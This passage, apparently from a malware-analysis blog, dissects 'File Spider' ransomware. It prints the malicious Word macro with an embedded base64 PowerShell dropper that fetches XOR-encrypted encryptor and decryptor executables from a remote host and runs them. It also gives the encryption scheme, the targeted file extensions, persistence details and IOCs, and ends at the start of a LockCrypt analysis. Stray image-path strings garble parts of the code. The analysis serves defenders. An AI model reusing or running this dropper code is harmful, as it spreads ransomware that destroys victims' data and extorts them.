    Dim objNode As MSXML2.IXMLDOMElement
    Set objXML = New MSXML2.DOMDocument
    Set objNode = objXML.createElement("b64")
    objNode.dataType = "bin.base64"
    objNode.Text = strData
    decodeBase64 = objNode.nodeTypedValue
    Set objNode = Nothing
    Set objXML = Nothing
End Function

Private Function str() As String

str = "cG93ZXJzaGVsbC5leGUgLXdpbmRvd3N0eWxlIGhpZGRlbiAkZGlyID0gW0Vudmlyb25tZW50XTo6R2V0Rm9sZGVyUGF0aCgnQXBwbGljYXRpb25EYXRhJykgKyAnXFNwaWRlcic7JGVuYyA9IFtTeXN0ZW0uVGV4dC5FbmNvZGluZ106OlVURjg7ZnVuY3Rpb24geG9yIHtwYXJhbSgkc3RyaW5nLCAkbWV0aG9kK"
str = str + "SR4b3JrZXkgPSAkZW5jLkdldEJ5dGVzKCdBbGJlclRJJyk7JHN0cmluZyA9ICRlbmMuR2V0U3RyaW5nKFtTeXN0ZW0uQ29udmVydF06OkZyb21CYXNlNjRTdHJpbmcoJHN0cmluZykpOyRieXRlU3RyaW5nID0gJGVuYy5HZXRCeXRlcygkc3RyaW5nKTskeG9yZERhdGEgPSAkKGZvciAoJGkgPSAwOyAkaSAtbH"
str = str + "QgJGJ5dGVTdHJpbmcubGVuZ3RoKXtmb3IoJGogPSAwOyAkaiAtbHQgJHhvcmtleS5sZW5ndGg7ICRqKyspeyRieXRlU3RyaW5nWyRpXSAtYnhvciAkeG9ya2V5WyRqXTskaSsrO2lmKCRpIC1nZSAkYnl0ZVN0cmluZy5MZW5ndGgpeyRqID0gJHhvcmtleS5sZW5ndGh9fX0pOyR4b3JkRGF0YSA9ICRlbmMuR2V"
str = str + "0U3RyaW5nKCR4b3JkRGF0YSk7cmV0dXJuICR4b3JkRGF0YX07ZnVuY3Rpb24gZGF0YSB7cGFyYW0oJG1ldGhvZCkkd2ViQ2xpZW50ID0gTmV3LU9iamVjdCBTeXN0ZW0uTmV0LldlYkNsaWVudDsgaWYgKCRtZXRob2QgLWVxICdkJyl7JGlucHV0ID0gJHdlYkNsaWVudC5Eb3dubG9hZFN0cmluZygnaHR0cDov"
str = str + "L3lvdXJqYXZhc2NyaXB0LmNvbS81MTE4NjMxNDc3L2phdmFzY3JpcHQtZGVjLTItMjUtMi5qcycpfWVsc2V7JGlucHV0ID0gJHdlYkNsaWVudC5Eb3dubG9hZFN0cmluZygnaHR0cDovL3lvdXJqYXZhc2NyaXB0LmNvbS81MzEwMzIwMTI3Ny9qYXZhc2NyaXB0LWVuYy0xLTAtOS5qcycpfSRieXRlcyA9IFtDb"
str = str + "252 ZXJ0XTo6RnJvbUJhc2U2NFN0cmluZyggKHhvciAkaW5wdXQgJ2QnKSApO3JldHVybiAgJGJ5dGVzfTtmdW5jdGlvbiBpbyB7cGFyYW0oJG1ldGhvZClpZigkbWV0aG9kIC1lcSAnZCcpeyRmaWxlbmFtZSA9ICRkaXIgKyAnXGRlYy5leGUnfWVsc2V7JGZpbGVuYW1lID0gJGRpciArICdcZW5jLmV4ZSd9W0"
str = str + "lPLkZpbGVdOjpXcml0ZUFsbEJ5dGVzKCRmaWxlbmFtZSwgKGRhdGEgJG1ldGhvZCkpfTtmdW5jdGlvbiBydW4ge3BhcmFtKCRtZXRob2QpaWYgKCRtZXRob2QgLWVxICdkJyl7aW8gJ2QnOyBIC1GaWxlUGF0aCAoJGRpciArICdcZGVjLmV4ZScpIC1Bcmd1bWVudExpc3QgJ3NwaWRlcid"
str = str + "9ZWxzZXtpbyAnZSc7IFN0YXJ0LVByb2Nlc3MgLUZpbGVQYXRoICgkZGlyICsgJ1xlbmMuZXhlJykgLUFyZ3VtZW50TGlzdCAnc3BpZGVyJywgJ2t0bicsICcxMDAnfX07aWYoIFRlc3QtUGF0aCAkZGlyKXt9ZWxzZXttZCAkZGlyOyBydW4gJ2QnOyBydW4gJ2UnIH0="

str = StrConv(decodeBase64(str), vbUnicode)

End Function

After Base64 decoding, we will get following powershell script.

powershell.exe -windowstyle hidden $dir = [Environment]::GetFolderPath('ApplicationData') + '\Spider';$enc = [System.Text.Encoding]::UTF8;
function xor{
param($string, $method)$xorkey = $enc.GetBytes('AlberTI');
$string = $enc.GetString([System.Convert]::FromBase64String($string));
$byteString = $enc.GetBytes($string);
$xordData = $(for ($i = 0;
$i -lt $byteString.length){for($j = 0; $j -lt $xorkey.length;
$j++){$byteString[$i] -bxor $xorkey[$j];
$i++;if($i -ge $byteString.Length){$j = $xorkey.length}}});
$xordData = $enc.GetString($xordData);return $xordData};
function data {param($method)$webClient = New-Object System.Net.WebClient;
if ($method -eq 'd'){
$input = $webClient.DownloadString('')}
$input = $webClient.DownloadString('')}
$bytes = [Convert]::FromBase64String( (xor $input 'd') );
return  $bytes};
function io {
if($method -eq 'd'){
$filename = $dir + '\dec.exe'}
$filename = $dir + '\enc.exe'}[IO.File]::WriteAllBytes($filename, (data $method))};
function run {if ($method -eq 'd'){io 'd';
Start-Process -FilePath ($dir + '\dec.exe') -ArgumentList 'spider'}
io 'e'; Start-Process -FilePath ($dir + '\enc.exe') -ArgumentList 'spider', 'ktn', '100'}};
if( Test-Path $dir){}else{md $dir; run 'd'; run 'e' }

The PowerShell script first creates a directory %APPDATA%\Spider, downloads decryptor (dec.exe), downloads and execute encryptor (enc.exe).

Encryptor is downloaded from hxxp:// which is base64 encoded and encrypted with xor, encryption key for xor is "AlberTI", so encryptor is downloaded, decrypted, saved at %APPDATA%\enc.exe and execute with 3 arguments "spider", "ktn", "100".

Similarly decryptor is downloaded from hxxp://, which is again bas64 encoded and encrypted with xor, xor key is same. It is decrypted, saved at %APPDATA%\dec.exe and executed with argument "spider".

Encryptor (enc.exe) :

MD5 :67D5ABDA3BE629B820341D1BAAD668E3 [VirusTotal]
FileName: enc.exe
FileType: MSIL

This binary is executed with 3 arguments "spider", "ktn" and "100".
First of all it creates a Victim's ID and dumps it to %APPDATA%\Spider\id.txt

One string is created by 0x20 bytes of random number, second argument (ktn) and third argument (100). It is encrypted with RSA algorithm, RSA public key is hardcoded in the function which is-


Encrypted data is encoded with base64 and saved at %APPDATA%\Spider\id.txt, which is a victim's ID and useful for decryption process.

The sample traverses each drives and encrypt those files which has following extensions.lnk url contact 1cd dbf dt cf cfu mxl epf kdbx erf vrp grs geo st conf pff mft efd 3dm 3ds rib ma sldasm sldprt max blend
lwo lws m3d mb obj x x3d movie byu c4d fbx dgn dwg 4db 4dl 4mp abs accdb accdc accde accdr accdt accdw accft adn a3d adp
aft ahd alf ask awdb azz bdb bib bnd bok btr bak backup cdb ckp clkw cma crd daconnections dacpac dad dadiagrams daf daschema
db db-shm db-wal db2 db3 dbc dbk dbs dbt dbv dbx dcb dct dcx ddl df1 dmo dnc dp1 dqy dsk dsn dta dtsx dxl eco ecx edb emd eql
fcd fdb fic fid fil fm5 fmp fmp12 fmpsl fol fp3 fp4 fp5 fp7 fpt fzb fzv gdb gwi hdb his ib idc ihx itdb itw jtx kdb lgc maq mdb
mdbhtml mdf mdn mdt mrg mud mwb s3m myd ndf ns2 ns3 ns4 nsf nv2 nyf oce odb oqy ora orx owc owg oyx p96 p97 pan pdb pdm phm pnz
pth pwa qpx qry qvd rctd rdb rpd rsd sbf sdb sdf spq sqb stp sql sqlite sqlite3 sqlitedb str tcx tdt te teacher tmd trm udb usr
v12 vdb vpd wdb wmdb xdb xld xlgc zdb zdc cdr cdr3 ppt pptx 1st abw act aim ans apt asc ascii ase aty awp awt aww bad bbs bdp bdr
bean bna boc btd bzabw chart chord cnm crwl cyi dca dgs diz dne doc docm docx docxml docz dot dotm dotx dsv dvi dx eio eit email
emlx epp err etf etx euc fadein faq fb2 fbl fcf fdf fdr fds fdt fdx fdxt fes fft flr fodt fountain gtp frt fwdn fxc gdoc gio gpn
gsd gthr gv hbk hht hs htc hwp hz idx iil ipf jarvis jis joe jp1 jrtf kes klg knt kon kwd latex lbt lis lit lnt lp2 lrc lst ltr
ltx lue luf lwp lxfml lyt lyx man map mbox md5txt me mell min mnt msg mwp nfo njx notes now nwctxt nzb ocr odm odo odt ofl oft
openbsd ort ott p7s pages pfs pfx pjt plantuml prt psw pu pvj pvm pwi pwr qdl rad readme rft ris rng rpt rst rt rtd rtf rtx run
rzk rzn saf safetext sam scc scmscriv scrivx sct scw sdm sdoc sdw sgm sig skcard sla slagz sls smf sms ssa strings stw sty sub
sxg sxw tab tdf tex text thp tlb tm tmv tmx tpc trelby tvj txt u3d u3i unauth unx uof uot upd utf8 unity utxt vct vnt vw wbk wcf
webdoc wgz wn wp wp4 wp5 wp6 wp7 wpa wpd wpl wps wpt wpw wri wsc wsd wsh wtx xbdoc xbplate xdl xlf xps xwp xy3 xyp xyw ybk yml zabw
zw 2bp 036 3fr 0411 73i 8xi 9png abm afx agif agp aic albm apd apm apng aps apx art artwork arw asw avatar bay blkrt bm2 bmp bmx
bmz brk brn brt bss bti c4 cal cals can cd5 cdc cdg cimg cin cit colz cpc cpd cpg cps cpx cr2 ct dc2 dcr dds dgt dib dicom djv djvu
dm3 dmi vue dpx wire drz dt2 dtw dvl ecw eip exr fal fax fpos fpx g3 gcdp gfb gfie ggr gif gih gim gmbck gmspr spr scad gpd gro grob
hdp hdr hpi i3d icn icon icpr iiq info int ipx itc2 iwi j j2c j2k jas jb2 jbig jbig2 jbmp jbr jfif jia jng jp2 jpejpeg jpg jpg2
jps jpx jtf jwl jxr kdc kdi kdk kic kpg lbm ljp mac mbm mef mnr mos mpf mpo mrxs myl ncr nct nlm nrw oc3 oc4 oc5 oci omf oplc af2
af3 ai asy cdmm cdmt cdmtz cdmz cdt cgm cmx cnv csy cv5 cvg cvi cvs cvx cwt cxf dcs ded design dhs dpp drw dxb dxf egc emf ep eps
epsf fh10 fh11 fh3 fh4 fh5 fh6 fh7 fh8 fif fig fmv ft10 ft11 ft7 ft8 ft9 ftn fxg gdraw gem glox hpg hpgl hpl idea igt igx imd vbox
vdi ink lmk mgcb mgmf mgmt mt9 mgmx mgtx mmat mat otg ovp ovr pcs pfd pfv pl plt pm vrml pmg pobj ps psid rdl scv sk1 sk2 slddrt
snagitstamps snagstyles ssk stn svf svg svgz sxd tlc tne ufr vbr vec vml vsd vsdm vsdx vstm stm vstx wmf wpg vsm vault xar xmind
xmmap yal orf ota oti ozb ozj ozt pal pano pap pbm pc1 pc2 pc3 pcd pcx pdd pdn pe4 pef pfi pgf pgm pi1 pi2 pi3 pic pict pix pjpeg
pjpg png pni pnm pntg pop pp4 pp5 ppm prw psd psdx pse psp pspbrush ptg ptx pvr px pxr pz3 pza pzp pzs z3d qmg ras rcu rgb rgf ric
riff rix rle rli rpf rri rs rsb rsr rw2 rwl s2mv sai sci sep sfc sfera sfw skm sld sob spa spe sph spj spp sr2 srw stesumo sva save
ssfn t2b tb0 tbn tfc tg4 thm thumb tif tiff tjp tm2 tn tpi ufo uga usertile-ms vda vff vpe vst wb1 wbc wbd wbm wbmp wbz wdp webp wpb
wpe wvl x3f y ysp zif cdr4 cdr6 cdrw pdf pbd pbl ddoc css pptm raw cpt tga xpm ani flc fb3 fli mng smil mobi swf html xls xlsx csv
xlsm ods xhtm 7z m2 rb rar wmo mcmeta m4a itm vfs0 indd sb mpqge fos p7c wmv mcgame db0 p7b vdf DayZProfile p12 d3dbsp ztmp rofl
sc2save sis hkx pem dbfv sie sid bar crt sum ncf upk cer wb2 ibank menu das der t13 layout t12 dmp litemod dxg qdf blob asset xf esm
forge tax 001 r3d pst pkpass vtf bsa bc6 dazip apk bc7 fpk re4 bkp mlx sav raf qic kf lbf bkf iwd slm xlk sidn vpk bik mrwref xlsb
sidd tor epk mddata psk rgss3a itl rim pak w3x big icxs fsh unity3d hvpl ntl wotreplay crw hplg arch00 xxx hkdb lvl desc mdbackup snx
py srf odc syncdb cfr m3u gho ff odp cas vpp_pc js dng lrf c cpp cs h bat ps1 php asp java jar class aaf aep aepx plb prel prproj aet
ppj indl indt indb inx idml pmd xqx fla as3 as docb xlt xlm xltx xltm xla xlam xll xlw pot pps potx potm ppam ppsx ppsm sldx sldm aif
iff m4u mid mpa ra 3gp 3g2 asf asx vob m3u8 mkv dat efx vcf xml ses zip 7zip mp4 3gp webm wmv

Directories which are going to skip are :

"tmp", "Videos", "winnt", "Application Data", "Spider", "PrefLogs", "Program Files (x86)", "Program Files", "ProgramData", "Temp", "Recycle", "System Volume Information", "Boot", "Windows"

Each file is encrypted by AES CFB algorithm with same key which is encrypted by RSA and random 0x20 bytes of salt.

The password and salt are randomly generated.
These two are different for each file so it is prepended with encrypted file.
First 0x20 bytes issalt, 0x50 bytes is AES encrypted password and rest of them are encrypt file data.

After the encryption of each file, It will add full path of encrypted file in %APPDATA%\Spider\files.txt

In each directory, it creates an internet shortcut file of name "HOW TO DECRYPT FILES.url" which redirect to hxxps:// Its a video which shows how to remove rensomware by paying ransom in Bitcoin to the attacker.

It appends .spider extension to each encrypted file.

Decryptor (dec.exe) :MD5: fdd465863a4c44aa678554332d20aee3 [VirusTotal]
FileName: dec.exe
FileType: MSIL

The dec.exe is executed with single argument "spider".
It creates a mutex of name "SpiderForm" to avoid execution of multiple instances.
The argument provided to this must be "spider" or "startup" for further execution.

Then it creates a thread which terminates all the following processes.
"taskmgr", "procexp", "msconfig", "Starter", "regedit", "cdclt", "cmd", "OUTLOOK", "WINWORD", "EXCEL", "MSACCESS"

After that it makes a run entry (SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run) for dec.exe to run it on startup.
Name : "Starter"
Value : "%APPDATA%\Spider\dec.exe startup"

In the last, it will start the form which contains payment instructions and decryption tool.

Payment site of file spider ransomware is spiderwjzbmsmu7y[.]onionIOCs :

MS word document : de7b31517d5963aefe70860d83ce83b9
Encrypted enc.exe : hxxp://
Encrypted dec.exe : hxxp://
enc.exe : 67D5ABDA3BE629B820341D1BAAD668E3
dec.exe : fdd465863a4c44aa678554332d20aee3
Payment site : spiderwjzbmsmu7y[.]onion
Video : hxxps://

Friday, 1 December 2017

Analysis of LockCrypt ransomware

December 01, 2017 Posted by SDKHERE , No comments

Attackers have been recently breaking into corporate servers via RDP brute force attacks to spread a new variant of ransomware called LockCrypt. The attacks first started in June but there was an increase of attacks in October. The victims were asked to pay 0.5 to 1 BTC to recover their server.
LockCrypt encrypts all files and rename them with a '.lock' extension. It also installs itself for persistence and deletes backup.

Let's have a look at the sample.

MD5 : 12A4388ADE3FAD199631F6A00894104C [VirusTotal] [HybridAnalysis]
Size  : 48128 bytes

When we execute this sample, following dialogue box will appear.

Fig1 : Window after execution of malware

Environment Setup :

On execution, First of all it copies itself to C:\Windows\bfsvcm.exe
